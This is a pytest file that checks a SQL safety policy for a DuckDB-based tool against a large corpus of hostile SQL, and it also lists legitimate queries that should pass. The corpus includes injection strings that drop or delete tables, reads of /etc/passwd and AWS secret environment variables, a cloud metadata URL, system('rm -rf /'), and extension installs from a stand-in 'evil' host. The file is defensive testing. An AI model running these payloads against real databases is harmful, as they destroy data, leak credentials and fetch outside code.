"""The SQL safety policy against a corpus of malicious and unsafe SQL, and the wall below it.

Three layers are exercised:

* the AST policy itself (`check_query`, `vet_preview`, `check_expression`): every string of the
  corpus is blocked with a reason a person can read; legitimate analytics SQL passes; plain
  listings get a default LIMIT, aggregates do not;
* the CLI (`queryforge query SQL --json`) on a workspace with a published table: a sample of the
  corpus exits 2 with one error object, each block lands in the audit log, the table is untouched;
* defence in depth: `run_readonly` called directly, bypassing the policy, still cannot read outside
  the workspace, attach databases, install extensions or change its settings.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import duckdb
import pytest

from queryforge.engine.duckdb import DuckDBEngine, run_readonly
from queryforge.errors import PermissionDenied, QueryForgeError
from queryforge.sql.policy import MAX_JOINS, MAX_SUBQUERY_DEPTH
from queryforge.sql.safety import (
    DEFAULT_PREVIEW_LIMIT,
    UnsafeSql,
    check_expression,
    check_query,
    vet_preview,
)
from queryforge.workspace import Workspace

EVAL_DATA = Path(__file__).resolve().parents[1] / "fixtures" / "planner_eval" / "data"
ALLOWED = {"orders", "customers", "products", "updates"}

# Expected reasons (regular expressions over the UnsafeSql message).
MULTI = r"exactly one SELECT statement"
NOT_QUERY = r"only a SELECT is allowed"
INSIDE = r"[A-Z]+ is not allowed: "
PARSE = r"does not parse"
NOT_EXPR = r"is not an expression"
PATH = r"looks like a path"
DIRECT = r"directly is not allowed"
FUNC = r"function \w+\(\) is not (allowed|on the allow-list)"
CATALOG = r"to see the tables and their columns, run `queryforge catalog`"  # where a catalog read is pointed
SYSTEM = rf"system or internal table .+ is not allowed: {CATALOG}"
CATALOG_FN = rf"directly is not allowed: {CATALOG}"
UNKNOWN = r"unknown table"
JOINS = rf"at most {MAX_JOINS} joins are allowed"
NESTING = rf"at most {MAX_SUBQUERY_DEPTH} levels are allowed"
# How DuckDB itself refuses (below the policy): the file fence, the lock, the read-only attach.
FENCED = (
    r"Permission Error|configuration has been locked|read-only mode|does not exist"
    r"|Only a single read-only SELECT may run here"
)


def _nested_from(levels: int) -> str:
    sql = "SELECT * FROM orders"
    for _ in range(levels):
        sql = f"SELECT * FROM ({sql})"
    return sql


def _nested_in(levels: int) -> str:
    inner = "SELECT order_id FROM orders"
    for _ in range(levels - 1):
        inner = f"SELECT order_id FROM orders WHERE order_id IN ({inner})"
    return f"SELECT * FROM orders WHERE order_id IN ({inner})"


def _nested_exists(levels: int) -> str:
    inner = "SELECT 1"
    for _ in range(levels - 1):
        inner = f"SELECT 1 WHERE EXISTS ({inner})"
    return f"SELECT * FROM orders WHERE EXISTS ({inner})"


def _nested_scalar(levels: int) -> str:
    inner = "SELECT max(amount) FROM orders"
    for _ in range(levels - 1):
        inner = f"SELECT ({inner})"
    return f"SELECT ({inner}) AS x"


def _joins(n: int, *, comma: bool = False) -> str:
    if comma:
        return "SELECT * FROM orders o0, " + ", ".join(f"orders o{i}" for i in range(1, n + 1))
    return "SELECT * FROM orders o0 " + " ".join(
        f"JOIN orders o{i} ON o{i}.order_id = o0.order_id" for i in range(1, n + 1)
    )


# (id, sql, expected reason). Every one must be blocked by check_query and vet_preview.
CORPUS: list[tuple[str, str, str]] = [
    # ---- more than one statement
    ("multi-select-select", "SELECT 1; SELECT 2", MULTI),
    ("multi-drop", "SELECT * FROM orders; DROP TABLE orders", MULTI),
    ("multi-delete-nospace", "SELECT * FROM orders;DELETE FROM orders", MULTI),
    ("multi-attach", "SELECT 1;\nATTACH '/tmp/x.db' AS x", MULTI),
    ("multi-copy", "SELECT * FROM orders; COPY orders TO '/tmp/out.csv'", MULTI),
    ("multi-set", "SELECT 1; SET enable_external_access = true", MULTI),
    ("multi-empty-statement", "select 1 ; ; drop table orders", MULTI),
    ("multi-insert", "SELECT * FROM orders WHERE 1=1; INSERT INTO orders VALUES (1)", MULTI),
    ("multi-pragma", "SELECT * FROM orders; PRAGMA database_list", MULTI),
    ("multi-trailing-comment", "SELECT * FROM orders; -- nothing to see", MULTI),
    # ---- DDL / DML / transaction control, bare
    ("drop-table", "DROP TABLE orders", NOT_QUERY),
    ("drop-cascade", "drop table if exists orders cascade", NOT_QUERY),
    ("delete", "DELETE FROM orders", NOT_QUERY),
    ("delete-where", "DELETE FROM orders WHERE true", NOT_QUERY),
    ("update", "UPDATE orders SET amount = 0", NOT_QUERY),
    ("insert-select", "INSERT INTO orders SELECT * FROM orders", NOT_QUERY),
    ("insert-or-replace", "INSERT OR REPLACE INTO orders VALUES (1, 2)", NOT_QUERY),
    ("insert-default", "INSERT INTO orders DEFAULT VALUES", NOT_QUERY),
    ("truncate", "TRUNCATE orders", NOT_QUERY),
    ("truncate-table", "TRUNCATE TABLE orders", NOT_QUERY),
    ("ctas", "CREATE TABLE evil AS SELECT * FROM orders", NOT_QUERY),
    ("create-view", "CREATE OR REPLACE VIEW orders AS SELECT 1", NOT_QUERY),
    ("create-temp", "CREATE TEMP TABLE t AS SELECT 1", NOT_QUERY),
    ("create-macro", "CREATE MACRO evil(x) AS x", NOT_QUERY),
    ("create-secret", "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')", NOT_QUERY),
    ("create-schema", "CREATE SCHEMA s", NOT_QUERY),
    ("create-sequence", "CREATE SEQUENCE seq", NOT_QUERY),
    ("create-index", "CREATE INDEX idx ON orders(order_id)", NOT_QUERY),
    ("alter-rename", "ALTER TABLE orders RENAME TO gone", NOT_QUERY),
    ("alter-add", "ALTER TABLE orders ADD COLUMN x INT", NOT_QUERY),
    ("drop-schema", "DROP SCHEMA main CASCADE", NOT_QUERY),
    (
        "merge",
        "MERGE INTO orders USING updates ON orders.id = updates.id WHEN MATCHED THEN DELETE",
        NOT_QUERY,
    ),
    ("grant", "GRANT ALL ON orders TO public", NOT_QUERY),
    ("vacuum", "VACUUM", NOT_QUERY),
    ("checkpoint", "CHECKPOINT", NOT_QUERY),
    ("begin", "BEGIN TRANSACTION", NOT_QUERY),
    ("commit", "COMMIT", NOT_QUERY),
    ("rollback", "ROLLBACK", NOT_QUERY),
    ("use", "USE other", NOT_QUERY),
    ("describe", "DESCRIBE orders", NOT_QUERY),
    ("show-tables", "SHOW TABLES", NOT_QUERY),
    ("summarize", "SUMMARIZE orders", NOT_QUERY),
    ("explain", "EXPLAIN SELECT * FROM orders", NOT_QUERY),
    ("explain-analyze", "EXPLAIN ANALYZE SELECT * FROM orders", NOT_QUERY),
    ("update-returning", "UPDATE orders SET status = 'x' RETURNING *", NOT_QUERY),
    ("delete-returning", "DELETE FROM orders RETURNING *", NOT_QUERY),
    ("pivot-statement", "PIVOT orders ON status USING sum(amount)", NOT_QUERY),
    # ---- DML in disguise: CTEs wrapping DML, DML after a CTE, SELECT ... INTO
    ("cte-delete", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", INSIDE),
    ("cte-update", "WITH u AS (UPDATE orders SET amount = 0 RETURNING *) SELECT count(*) FROM u", INSIDE),
    ("cte-insert", "WITH i AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT * FROM i", INSIDE),
    ("with-then-delete", "WITH x AS (SELECT 1) DELETE FROM orders", NOT_QUERY),
    ("with-then-insert", "WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x", NOT_QUERY),
    ("with-then-update", "WITH x AS (SELECT * FROM orders) UPDATE orders SET amount = 1", NOT_QUERY),
    ("select-into", "SELECT * INTO evil FROM orders", INSIDE),
    ("select-into-temp", "SELECT order_id INTO TEMP evil FROM orders", INSIDE),
    ("cte-select-into", "WITH t AS (SELECT 1 AS a) SELECT * INTO evil FROM t", INSIDE),
    ("select-into-outfile", "SELECT * INTO OUTFILE '/tmp/x' FROM orders", PARSE),
    ("select-into-outfile-end", "SELECT * FROM orders INTO OUTFILE '/tmp/orders.txt'", PARSE),
    # ---- comment tricks
    ("comment-block-then-drop", "SELECT 1 /* harmless */; DROP TABLE orders", MULTI),
    ("comment-line-then-drop", "SELECT 1 -- comment\n; DROP TABLE orders", MULTI),
    ("comment-semicolon-inside", "SELECT * FROM orders /*; */ ; DELETE FROM orders", MULTI),
    ("comment-hides-select", "/* SELECT */ DROP TABLE orders", NOT_QUERY),
    ("comment-line-hides-select", "-- SELECT 1\nDROP TABLE orders", NOT_QUERY),
    ("comment-fake-end", "SELECT 1 /* ; DROP TABLE orders; */ ; DROP TABLE orders --", MULTI),
    ("comment-split-keyword", "DR/**/OP TABLE orders", PARSE),
    ("comment-as-whitespace", "SELECT 1;/**/DROP/**/TABLE/**/orders", MULTI),
    ("comment-crlf", "SELECT 1 --\r\n; DELETE FROM orders", MULTI),
    # ---- string-literal tricks
    ("string-close-then-drop", "SELECT 'a'; DROP TABLE orders; --'", MULTI),
    ("string-escaped-quote", "SELECT 'it''s'; DELETE FROM orders", MULTI),
    ("string-empty-then-drop", "SELECT * FROM orders WHERE status = ''; DROP TABLE orders; --'", MULTI),
    ("string-dollar-quoted", "SELECT $$x$$; DROP TABLE orders", MULTI),
    (
        "string-tautology-delete",
        "SELECT * FROM orders WHERE status = 'x' OR 1=1; DELETE FROM orders --'",
        MULTI,
    ),
    ("string-e-escape", "SELECT E'\\''; DROP TABLE orders", MULTI),
    ("string-file-as-table", "SELECT * FROM 'orders.csv'", PATH),
    ("string-passwd-as-table", "SELECT * FROM '/etc/passwd'", PATH),
    ("string-passwd-from-first", "FROM '/etc/passwd'", PATH),
    ("string-passwd-aliased", "SELECT * FROM '/etc/passwd' AS p", PATH),
    ("string-glob-as-table", "SELECT * FROM 'data/*.csv'", PATH),
    ("string-url-as-table", "SELECT * FROM 'https://example.com/data.parquet'", PATH),
    ("string-s3-as-table", "SELECT * FROM 's3://bucket/key.parquet'", PATH),
    # ---- case, whitespace and unicode tricks
    ("case-drop", "dRoP tAbLe orders", NOT_QUERY),
    ("case-tab-newline-delete", "SeLeCt 1;\tDeLeTe\nFROM orders", MULTI),
    ("case-read-csv-upper", "SELECT * FROM READ_CSV('/etc/passwd')", DIRECT),
    ("case-read-text-mixed", "SELECT * FROM Read_Text('/etc/hostname')", DIRECT),
    ("whitespace-read-csv-auto", "select   *\n\n\tfrom\n\tread_csv_auto ( '/etc/passwd' )", DIRECT),
    ("unicode-nbsp-drop", "SELECT 1;\u00a0DROP TABLE orders", MULTI),
    ("unicode-ideographic-space-drop", "SELECT 1;\u3000DROP TABLE orders", MULTI),
    ("unicode-fullwidth-select", "\uff33\uff25\uff2c\uff25\uff23\uff34 1; DROP TABLE orders", PARSE),
    ("unicode-greek-question-mark", "SELECT 1\u037e DROP TABLE orders", PARSE),
    ("case-getenv-upper", "SELECT GETENV('HOME')", FUNC),
    ("case-information-schema-upper", "SELECT * FROM INFORMATION_SCHEMA.TABLES", SYSTEM),
    ("case-pg-catalog-quoted-upper", 'SELECT * FROM "PG_CATALOG"."PG_TABLES"', SYSTEM),
    ("quoted-function-name", "SELECT * FROM \"read_csv\"('/etc/passwd')", DIRECT),
    # ---- system catalogs of DuckDB, PostgreSQL, SQLite, MySQL
    ("sys-information-schema-tables", "SELECT * FROM information_schema.tables", SYSTEM),
    ("sys-information-schema-columns", "SELECT * FROM information_schema.columns", SYSTEM),
    ("sys-pg-catalog-pg-tables", "SELECT * FROM pg_catalog.pg_tables", SYSTEM),
    ("sys-pg-tables", "SELECT * FROM pg_tables", SYSTEM),
    ("sys-pg-user", "SELECT * FROM pg_user", SYSTEM),
    ("sys-pg-shadow", "SELECT usename, passwd FROM pg_shadow", SYSTEM),
    ("sys-pg-stat-activity", "SELECT * FROM pg_stat_activity", SYSTEM),
    ("sys-sqlite-master", "SELECT * FROM sqlite_master", SYSTEM),
    ("sys-sqlite-schema", "SELECT sql FROM sqlite_schema", SYSTEM),
    ("sys-sqlite-temp-master", "SELECT * FROM sqlite_temp_master", SYSTEM),
    ("sys-main-sqlite-master", "SELECT * FROM main.sqlite_master", SYSTEM),
    ("sys-mysql-user", "SELECT * FROM mysql.user", SYSTEM),
    ("sys-performance-schema", "SELECT * FROM performance_schema.threads", SYSTEM),
    ("sys-sys-tables", "SELECT * FROM sys.tables", SYSTEM),
    ("sys-duckdb-logs", "SELECT * FROM duckdb_logs", SYSTEM),
    ("sys-system-catalog", "SELECT * FROM system.main.duckdb_tables", SYSTEM),
    ("sys-temp-catalog", "SELECT * FROM temp.main.x", SYSTEM),
    ("sys-three-part", "SELECT * FROM wh.information_schema.tables", SYSTEM),
    (
        "sys-in-subquery",
        "SELECT * FROM orders WHERE order_id IN (SELECT 1 FROM information_schema.tables)",
        SYSTEM,
    ),
    ("sys-in-union", "SELECT * FROM orders UNION ALL SELECT * FROM information_schema.schemata", SYSTEM),
    ("sys-in-cte", "WITH t AS (SELECT * FROM pg_catalog.pg_roles) SELECT * FROM t", SYSTEM),
    ("sys-quoted", 'SELECT * FROM "information_schema"."tables"', SYSTEM),
    ("sys-duckdb-tables", "SELECT * FROM duckdb_tables()", CATALOG_FN),
    ("sys-duckdb-settings", "SELECT * FROM duckdb_settings()", DIRECT),
    ("sys-duckdb-secrets", "SELECT * FROM duckdb_secrets()", DIRECT),
    ("sys-duckdb-extensions", "SELECT * FROM duckdb_extensions()", DIRECT),
    ("sys-duckdb-databases", "SELECT * FROM duckdb_databases()", CATALOG_FN),
    ("sys-duckdb-columns", "SELECT * FROM duckdb_columns()", CATALOG_FN),
    ("sys-duckdb-functions", "SELECT * FROM duckdb_functions()", DIRECT),
    ("sys-duckdb-memory", "SELECT * FROM duckdb_memory()", DIRECT),
    ("sys-pragma-table-info", "SELECT * FROM pragma_table_info('orders')", CATALOG_FN),
    ("sys-pragma-storage-info", "SELECT * FROM pragma_storage_info('orders')", DIRECT),
    ("sys-pragma-version", "SELECT * FROM pragma_version()", DIRECT),
    # ---- file-reading and network functions
    ("file-read-csv", "SELECT * FROM read_csv('/etc/passwd')", DIRECT),
    ("file-read-csv-options", "SELECT * FROM read_csv('/etc/passwd', header=false)", DIRECT),
    ("file-read-csv-list", "SELECT * FROM read_csv(['/etc/passwd', '/etc/group'])", DIRECT),
    ("file-read-csv-auto", "SELECT * FROM read_csv_auto('/etc/passwd')", DIRECT),
    ("file-read-parquet", "SELECT * FROM read_parquet('/tmp/x.parquet')", DIRECT),
    ("file-parquet-scan", "SELECT * FROM parquet_scan('/tmp/x.parquet')", DIRECT),
    ("file-read-json", "SELECT * FROM read_json('/tmp/x.json')", DIRECT),
    ("file-read-json-auto", "SELECT * FROM read_json_auto('/tmp/x.json')", DIRECT),
    ("file-read-ndjson", "SELECT * FROM read_ndjson('/tmp/x.json')", DIRECT),
    ("file-read-json-objects", "SELECT * FROM read_json_objects('/etc/x')", DIRECT),
    ("file-read-text", "SELECT * FROM read_text('/etc/hostname')", DIRECT),
    ("file-read-text-traversal", "SELECT content FROM read_text('../../etc/hostname')", DIRECT),
    ("file-read-blob", "SELECT * FROM read_blob('/etc/hostname')", DIRECT),
    ("file-read-xlsx", "SELECT * FROM read_xlsx('/tmp/x.xlsx')", DIRECT),
    ("file-read-duckdb", "SELECT * FROM read_duckdb('/tmp/x.duckdb')", DIRECT),
    ("file-glob", "SELECT * FROM glob('/etc/*')", DIRECT),
    ("file-sniff-csv", "SELECT * FROM sniff_csv('/etc/passwd')", DIRECT),
    ("file-parquet-metadata", "SELECT * FROM parquet_metadata('/tmp/x.parquet')", DIRECT),
    ("file-parquet-schema", "SELECT * FROM parquet_schema('/tmp/x.parquet')", DIRECT),
    ("file-sqlite-scan", "SELECT * FROM sqlite_scan('/tmp/x.db', 'users')", DIRECT),
    ("net-postgres-scan", "SELECT * FROM postgres_scan('host=localhost', 'public', 'users')", DIRECT),
    ("net-postgres-query", "SELECT * FROM postgres_query('db', 'DROP TABLE x')", DIRECT),
    ("net-mysql-scan", "SELECT * FROM mysql_scan('host=localhost', 'db', 'users')", DIRECT),
    ("net-iceberg-scan", "SELECT * FROM iceberg_scan('s3://bucket/table')", DIRECT),
    ("net-delta-scan", "SELECT * FROM delta_scan('s3://bucket/table')", DIRECT),
    ("file-st-read", "SELECT * FROM st_read('/tmp/x.shp')", DIRECT),
    ("net-httpfs-parquet", "SELECT * FROM read_parquet('https://example.com/x.parquet')", DIRECT),
    ("net-metadata-service", "SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/')", DIRECT),
    ("net-http-get", "SELECT http_get('http://example.com')", FUNC),
    ("net-dblink", "SELECT * FROM dblink('host=x', 'SELECT 1')", DIRECT),
    ("file-query-string", "SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')", DIRECT),
    ("file-query-table", "SELECT * FROM query_table('orders')", DIRECT),
    ("file-pg-read-file", "SELECT pg_read_file('/etc/passwd')", FUNC),
    ("file-lo-import", "SELECT lo_import('/etc/passwd')", FUNC),
    ("file-load-file", "SELECT load_file('/etc/passwd')", FUNC),
    (
        "file-in-subquery",
        "SELECT * FROM orders WHERE order_id IN (SELECT column0 FROM read_csv('/etc/passwd'))",
        DIRECT,
    ),
    ("file-scalar-subquery", "SELECT (SELECT count(*) FROM read_text('/etc/hostname')) AS n", DIRECT),
    ("file-in-cte", "WITH p AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM p", DIRECT),
    ("file-joined", "SELECT * FROM orders JOIN read_csv('/etc/passwd') ON true", DIRECT),
    ("file-comma-joined", "SELECT * FROM orders, read_text('/etc/hostname')", DIRECT),
    ("file-lateral", "SELECT * FROM orders, LATERAL (SELECT * FROM read_text('/etc/hostname'))", DIRECT),
    ("file-positional-join", "SELECT * FROM orders POSITIONAL JOIN read_csv('/etc/passwd')", DIRECT),
    ("file-in-union", "SELECT * FROM orders UNION ALL SELECT * FROM read_csv('/etc/passwd')", DIRECT),
    ("file-in-limit", "SELECT * FROM orders LIMIT (SELECT count(*) FROM read_csv('/etc/passwd'))", DIRECT),
    ("file-from-first", "FROM read_csv('/etc/passwd') SELECT *", DIRECT),
    ("file-nested-from-first", "SELECT * FROM (FROM read_csv('/etc/passwd'))", DIRECT),
    ("file-path-from-env", "SELECT * FROM read_csv(getenv('HOME'))", DIRECT),
    ("sleep-pg", "SELECT pg_sleep(100)", FUNC),
    ("sleep", "SELECT sleep(100)", FUNC),
    # ---- engine commands
    ("attach", "ATTACH '/tmp/x.db'", NOT_QUERY),
    ("attach-read-only", "ATTACH '/tmp/x.db' AS x (READ_ONLY)", NOT_QUERY),
    ("attach-postgres", "ATTACH 'postgres:dbname=x' AS pg (TYPE postgres)", NOT_QUERY),
    ("attach-database", "ATTACH DATABASE '/tmp/x.sqlite' AS x", NOT_QUERY),
    ("detach", "DETACH DATABASE x", NOT_QUERY),
    ("install-httpfs", "INSTALL httpfs", NOT_QUERY),
    ("load-httpfs", "LOAD httpfs", NOT_QUERY),
    ("force-install", "FORCE INSTALL httpfs FROM 'http://evil'", NOT_QUERY),
    ("install-url", "INSTALL 'http://evil/ext.duckdb_extension'", NOT_QUERY),
    ("copy-to", "COPY orders TO '/tmp/orders.csv'", NOT_QUERY),
    ("copy-query-to", "COPY (SELECT * FROM orders) TO '/tmp/x.parquet' (FORMAT parquet)", NOT_QUERY),
    ("copy-from", "COPY orders FROM '/etc/passwd'", NOT_QUERY),
    ("export-database", "EXPORT DATABASE '/tmp/dump'", PARSE),
    ("import-database", "IMPORT DATABASE '/tmp/dump'", PARSE),
    ("pragma-profiling", "PRAGMA enable_profiling", NOT_QUERY),
    ("pragma-database-list", "PRAGMA database_list", NOT_QUERY),
    ("pragma-table-info", "PRAGMA table_info('orders')", NOT_QUERY),
    ("set-external-access", "SET enable_external_access = true", NOT_QUERY),
    ("set-allowed-directories", "SET allowed_directories = ['/']", NOT_QUERY),
    ("set-lock-configuration", "SET lock_configuration = false", NOT_QUERY),
    ("reset-lock-configuration", "RESET lock_configuration", NOT_QUERY),
    ("set-global", "SET GLOBAL threads = 1", NOT_QUERY),
    ("set-search-path", "SET search_path = 'information_schema'", NOT_QUERY),
    ("call-pragma", "CALL pragma_version()", NOT_QUERY),
    ("call-dbgen", "CALL dbgen(sf=1)", NOT_QUERY),
    ("call-settings", "CALL duckdb_settings()", NOT_QUERY),
    ("load-data-infile", "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders", PARSE),
    # ---- environment and settings
    ("env-getenv", "SELECT getenv('HOME')", FUNC),
    ("env-getenv-secret", "SELECT getenv('AWS_SECRET_ACCESS_KEY') AS k FROM orders", FUNC),
    ("env-getenv-where", "SELECT * FROM orders WHERE getenv('HOME') IS NOT NULL", FUNC),
    ("env-getenv-subquery", "SELECT order_id, (SELECT getenv('USER')) FROM orders", FUNC),
    ("env-getenv-method", "SELECT 'HOME'.getenv()", FUNC),
    ("env-getenv-lambda", "SELECT list_transform([1], x -> getenv('HOME'))", FUNC),
    ("env-getenv-order-by", "SELECT * FROM orders ORDER BY (SELECT getenv('HOME'))", FUNC),
    ("env-getenv-qualify", "SELECT * FROM orders QUALIFY getenv('x') IS NULL", FUNC),
    ("env-current-setting", "SELECT current_setting('allowed_directories')", FUNC),
    (
        "env-current-setting-having",
        "SELECT status FROM orders GROUP BY ALL HAVING current_setting('threads') > 0",
        FUNC,
    ),
    ("env-set-config", "SELECT set_config('x', 'y', false)", FUNC),
    ("env-which-secret", "SELECT * FROM which_secret('s3://x', 's3')", DIRECT),
    ("env-pg-backend-pid", "SELECT pg_backend_pid()", FUNC),
    ("env-txid", "SELECT txid_current()", FUNC),
    ("env-system", "SELECT system('rm -rf /')", FUNC),
    # ---- injection through identifiers
    ("ident-closed-quote-then-drop", 'SELECT * FROM "orders"; DROP TABLE x; --"', MULTI),
    ("ident-column-then-drop", 'SELECT "a"; DROP TABLE x; --" FROM orders', MULTI),
    ("ident-escaped-quote-table", 'SELECT * FROM "x""; DROP TABLE orders; --"', UNKNOWN),
    ("ident-statement-as-table", 'SELECT * FROM "orders; DROP TABLE orders; --"', UNKNOWN),
    ("ident-traversal", 'SELECT * FROM "../../etc/passwd"', PATH),
    ("ident-absolute-path", 'SELECT * FROM "/etc/passwd"', PATH),
    ("ident-file-name", 'SELECT * FROM "orders.csv"', PATH),
    ("ident-windows-path", 'SELECT * FROM "C:\\Windows\\win.ini"', PATH),
    ("ident-backticks", "SELECT * FROM `orders`; DROP TABLE x; --`", PARSE),
    ("ident-brackets", "SELECT * FROM [orders]; DROP TABLE x; --]", PARSE),
    ("ident-quoted-table-function", 'SELECT * FROM "duckdb_settings"()', DIRECT),
    ("ident-unknown-table", "SELECT * FROM secrets", UNKNOWN),
    # ---- complexity caps
    ("joins-over-cap", _joins(MAX_JOINS + 1), JOINS),
    ("joins-over-cap-comma", _joins(MAX_JOINS + 1, comma=True), JOINS),
    ("joins-twice-the-cap", _joins(2 * MAX_JOINS), JOINS),
    ("nesting-from-over-cap", _nested_from(MAX_SUBQUERY_DEPTH + 1), NESTING),
    ("nesting-in-over-cap", _nested_in(MAX_SUBQUERY_DEPTH + 1), NESTING),
    ("nesting-exists-over-cap", _nested_exists(MAX_SUBQUERY_DEPTH + 1), NESTING),
    ("nesting-scalar-over-cap", _nested_scalar(MAX_SUBQUERY_DEPTH + 1), NESTING),
    ("nesting-from-twice-the-cap", _nested_from(2 * MAX_SUBQUERY_DEPTH), NESTING),
]

# Expressions as a planner or an LLM would put them into filter / derive / aggregate steps.
UNSAFE_EXPRESSIONS: list[tuple[str, str, str]] = [
    ("expr-multi", "amount > 0; DROP TABLE orders", PARSE),
    ("expr-getenv", "getenv('HOME') IS NOT NULL", FUNC),
    ("expr-read-text", "(SELECT content FROM read_text('/etc/passwd'))", NOT_EXPR),
    ("expr-file-in", "order_id IN (SELECT column0 FROM read_csv('/etc/passwd'))", DIRECT),
    ("expr-system", "EXISTS (SELECT 1 FROM information_schema.tables)", SYSTEM),
    ("expr-from-file", "1 FROM '/etc/passwd'", PARSE),
    ("expr-union-system", "1 UNION SELECT table_name FROM information_schema.tables", PARSE),
    ("expr-into", "* INTO evil", PARSE),
    ("expr-current-setting", "current_setting('threads')", FUNC),
    ("expr-comment-split", "1 /* x */; DELETE FROM orders", PARSE),
]

ALLOWED_QUERIES: list[tuple[str, str]] = [
    ("plain", "SELECT * FROM orders"),
    ("from-first", "FROM orders"),
    ("columns", "SELECT order_id, amount FROM orders WHERE status = 'shipped'"),
    ("aggregate", "SELECT status, count(*) AS n, sum(amount) AS total FROM orders GROUP BY status"),
    ("group-by-all", "SELECT status, avg(amount) FROM orders GROUP BY ALL HAVING count(*) > 1"),
    (
        "cte",
        "WITH big AS (SELECT * FROM orders WHERE amount > 100) "
        "SELECT status, count(*) FROM big GROUP BY status",
    ),
    (
        "two-ctes",
        "WITH a AS (SELECT * FROM orders), b AS (SELECT * FROM customers) "
        "SELECT b.country, sum(a.amount) FROM a JOIN b USING (customer_id) GROUP BY 1",
    ),
    (
        "window",
        "SELECT order_id, amount, row_number() OVER (PARTITION BY customer_id ORDER BY amount DESC) AS rn "
        "FROM orders",
    ),
    ("window-qualify", "SELECT * FROM orders QUALIFY rank() OVER (ORDER BY amount DESC) <= 3"),
    ("running-total", "SELECT order_date, sum(amount) OVER (ORDER BY order_date) FROM orders"),
    ("join-1", "SELECT o.*, p.name FROM orders o JOIN products p USING (product_id)"),
    ("joins-at-cap", _joins(MAX_JOINS)),
    ("joins-at-cap-comma", _joins(MAX_JOINS, comma=True)),
    ("left-join", "SELECT * FROM orders o LEFT JOIN customers c ON o.customer_id = c.customer_id"),
    ("union", "SELECT order_id FROM orders UNION ALL SELECT customer_id FROM customers"),
    ("case", "SELECT CASE WHEN amount > 100 THEN 'big' ELSE 'small' END AS size FROM orders"),
    ("nesting-from-at-cap", _nested_from(MAX_SUBQUERY_DEPTH)),
    ("nesting-in-at-cap", _nested_in(MAX_SUBQUERY_DEPTH)),
    ("nesting-exists-at-cap", _nested_exists(MAX_SUBQUERY_DEPTH)),
    ("nesting-scalar-at-cap", _nested_scalar(MAX_SUBQUERY_DEPTH)),
    ("string-mentions-drop", "SELECT * FROM orders WHERE status = 'DROP TABLE orders; --'"),
    ("comment-mentions-drop", "SELECT * FROM orders -- ; DROP TABLE orders"),
    ("alias-mentions-drop", 'SELECT order_id AS "x; DROP TABLE orders; --" FROM orders'),
    ("trailing-semicolon", "SELECT * FROM orders;"),
    ("date-functions", "SELECT date_trunc('month', order_date) AS m, count(*) FROM orders GROUP BY 1"),
    ("distinct", "SELECT DISTINCT status FROM orders"),
    ("cast", "SELECT CAST(amount AS INTEGER) FROM orders ORDER BY 1 DESC LIMIT 5"),
    ("string-functions", "SELECT upper(name), length(email) FROM customers"),
]


def _blocked(fn: Callable[[], Any]) -> str:
    with pytest.raises(UnsafeSql) as info:
        fn()
    reason = str(info.value)
    assert reason.strip(), "a block must come with a reason"
    return reason


# ---------------------------------------------------------------- the corpus


def test_the_corpus_is_large_and_has_unique_ids() -> None:
    ids = [c[0] for c in CORPUS] + [c[0] for c in UNSAFE_EXPRESSIONS]
    assert len(CORPUS) + len(UNSAFE_EXPRESSIONS) >= 100
    assert len(CORPUS) >= 100
    assert len(ids) == len(set(ids))
    assert len({c[1] for c in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize(("sql", "reason"), [pytest.param(s, r, id=i) for i, s, r in CORPUS])
def test_check_query_blocks_with_a_reason(sql: str, reason: str) -> None:
    message = _blocked(lambda: check_query(sql, allowed_tables=ALLOWED))
    assert re.search(reason, message), f"blocked for an unexpected reason: {message}"


@pytest.mark.parametrize(("sql", "reason"), [pytest.param(s, r, id=i) for i, s, r in CORPUS])
def test_vet_preview_blocks_with_a_reason(sql: str, reason: str) -> None:
    message = _blocked(lambda: vet_preview(sql, allowed_tables=ALLOWED))
    assert re.search(reason, message), f"blocked for an unexpected reason: {message}"


@pytest.mark.parametrize(
    ("sql", "reason"),
    [pytest.param(s, r, id=i) for i, s, r in CORPUS if r != UNKNOWN],
)
def test_blocked_without_a_table_list_too(sql: str, reason: str) -> None:
    """The policy does not depend on knowing the tables: only 'unknown table' needs the list."""
    message = _blocked(lambda: check_query(sql))
    assert re.search(reason, message), message


@pytest.mark.parametrize(("text", "reason"), [pytest.param(s, r, id=i) for i, s, r in UNSAFE_EXPRESSIONS])
def test_check_expression_blocks_unsafe_step_expressions(text: str, reason: str) -> None:
    message = _blocked(lambda: check_expression(text))
    assert re.search(reason, message), message


@pytest.mark.parametrize("text", ["amount > 100", "status IN ('a', 'b')", "amount * 0.9", "count(*)"])
def test_check_expression_allows_plain_expressions(text: str) -> None:
    check_expression(text)


def _ctes_in_ctes(levels: int) -> str:
    sql = "SELECT * FROM orders"
    for i in range(levels):
        sql = f"WITH c{i} AS ({sql}) SELECT * FROM c{i}"
    return sql


def _ctes_in_subqueries(levels: int) -> str:
    sql = "SELECT * FROM orders"
    for i in range(levels):
        sql = (
            f"SELECT * FROM (WITH c{i} AS ({sql}) SELECT * FROM c{i})"
            if i % 2
            else f"WITH c{i} AS ({sql}) SELECT * FROM c{i}"
        )
    return sql


@pytest.mark.parametrize(
    "sql",
    [_ctes_in_ctes(MAX_SUBQUERY_DEPTH + 1), _ctes_in_subqueries(MAX_SUBQUERY_DEPTH + 1)],
    ids=["ctes-in-ctes-over-cap", "ctes-inside-subqueries"],
)
def test_nested_ctes_count_towards_the_nesting_cap(sql: str) -> None:
    message = _blocked(lambda: check_query(sql, allowed_tables=ALLOWED))
    assert re.search(NESTING, message), message


def test_version_function_is_blocked() -> None:
    _blocked(lambda: check_query("SELECT version()"))


# ---------------------------------------------------------------- what must pass


@pytest.mark.parametrize("sql", [pytest.param(s, id=i) for i, s in ALLOWED_QUERIES])
def test_legitimate_queries_pass(sql: str) -> None:
    query = check_query(sql, allowed_tables=ALLOWED)
    assert query is not None
    verdict = vet_preview(sql, allowed_tables=ALLOWED)
    assert verdict.decision in ("allow", "rewrite")
    # What runs is still one read-only query that passes the policy.
